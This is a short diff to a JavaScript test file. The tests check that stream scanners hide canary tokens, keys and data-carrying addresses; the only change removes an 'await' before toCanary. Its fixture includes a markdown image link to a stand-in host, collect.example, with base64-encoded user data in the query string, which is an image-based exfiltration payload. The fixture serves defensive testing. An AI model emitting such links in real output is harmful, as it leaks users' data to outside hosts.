@@ -151,7 +151,7 @@ describe('with the real scanners, a stream', () => {
   });
 
   it('shows nothing of a canary, an address with data in it or a key, wherever it is cut', async () => {
-    const canary = await toCanary('k', 's');
+    const canary = toCanary('k', 's');
     const image = '![ok](https://collect.example/p?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgd2l0aCBtYW55IHdvcmRz)';
     for (const [secret, isStopped] of [
       [canary, true],
